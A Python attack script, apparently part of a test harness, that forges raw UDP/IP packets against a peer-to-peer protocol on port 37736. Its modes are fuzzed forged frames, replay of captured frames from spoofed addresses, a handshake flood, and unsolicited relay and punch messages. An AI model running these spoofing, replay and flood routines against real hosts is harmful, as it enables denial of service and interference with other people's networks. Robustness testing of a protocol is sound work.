#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""An attacker on the path, who sees every datagram and can send any.

  attack.py junk SRC SPORT DST SENDER FILE RATE SECONDS
        forged PILS frames in the name of SENDER: random, and with the
        prefixes and counters of the captured FILE
  attack.py replay SRC SPORT DST FILE RATE COUNT
        frames of FILE (hex, one a line), over and over; SRC "any": from 1000
        addresses
  attack.py flood DST SENDER RATE SECONDS
        forged handshake frames from 1000 addresses, in all names
  attack.py beacon SRC SPORT DST SENDER FILE
        relay-deliver and punch messages nobody asked for

Frames go to port 37736. A UDP checksum is not needed over IPv4.
"""
import os
import random
import socket
import struct
import sys
import time

random.seed(1)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
PORT = 37736


def send(src, sport, dst, payload):
    udp = struct.pack('>HHHH', sport, PORT, 8 + len(payload), 0) + payload
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    raw.sendto(ip + udp, (dst, 0))


def paced(rate, frames):
    """Sends in bursts of a hundredth of a second: a flood, but not one of the
    emulated CPU's queues."""
    burst, sent, begun = max(1, rate // 100), 0, time.monotonic()
    for args in frames:
        send(*args)
        sent += 1
        if sent % burst == 0:
            ahead = sent / rate - (time.monotonic() - begun)
            if ahead > 0:
                time.sleep(ahead)
    print('sent', sent)


def read(path):
    return [bytes.fromhex(line.strip()) for line in open(path)]


def until(seconds, make):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield make()


def junk(src, sport, dst, sender, path, rate, seconds):
    genuine = [f for f in read(path) if f[:8] == b'PILS' + struct.pack('>I', int(sender))]
    top = max(struct.unpack('>Q', f[12:20])[0] for f in genuine)

    def frame():
        like = random.choice(genuine)
        prefix = random.choice((like[8:12], os.urandom(4)))
        counter = random.choice((0, 1, top, top + random.randrange(1 << 20), (1 << 64) - 1,
                                 random.getrandbits(64)))
        body = random.choice((like[20:-1] + b'x', os.urandom(random.randrange(16, 1400))))
        return (random.choice((src, '192.0.2.%d' % random.randrange(1, 255))), int(sport), dst,
                like[:8] + prefix + struct.pack('>Q', counter) + body)

    paced(int(rate), until(float(seconds), frame))


def replay(src, sport, dst, path, rate, count):
    frames = read(path)
    paced(int(rate), ((stranger(i) if src == 'any' else src, int(sport), dst,
                       frames[i % len(frames)]) for i in range(int(count))))


def stranger(n):
    return '198.18.%d.%d' % (n % 1000 // 250, n % 250 + 1)


def flood(dst, sender, rate, seconds):
    def frame():
        n = random.randrange(1000)
        name = random.choice((int(sender), random.getrandbits(32)))
        kind, length = random.choice(((b'PILA', 128), (b'PILK', 32)))
        return (stranger(n), 1024 + n, dst,
                kind + struct.pack('>I', name) + os.urandom(length))

    paced(int(rate), until(float(seconds), frame))


def beacon(src, sport, dst, sender, path):
    node = struct.pack('>I', int(sender))
    frames = read(path)
    forged = [b'\x06' + node + f for f in frames[:50]]
    forged += [b'\x06' + node + b'PILA' + node + os.urandom(128)]
    forged += [b'\x06' + struct.pack('>I', 99) + f for f in frames[:5]]
    forged += [b'\x04\x04' + socket.inet_aton('192.0.2.1') + struct.pack('>H', 9)] * 5
    forged += [b'\x02\x04' + socket.inet_aton('192.0.2.1') + struct.pack('>H', 9)] * 5
    forged += [b'\x05' + node + node + f for f in frames[:5]]
    paced(200, ((src, int(sport), dst, f) for f in forged))


if len(sys.argv) < 2 or sys.argv[1] not in ('junk', 'replay', 'flood', 'beacon'):
    sys.exit(__doc__)
globals()[sys.argv[1]](*sys.argv[2:])
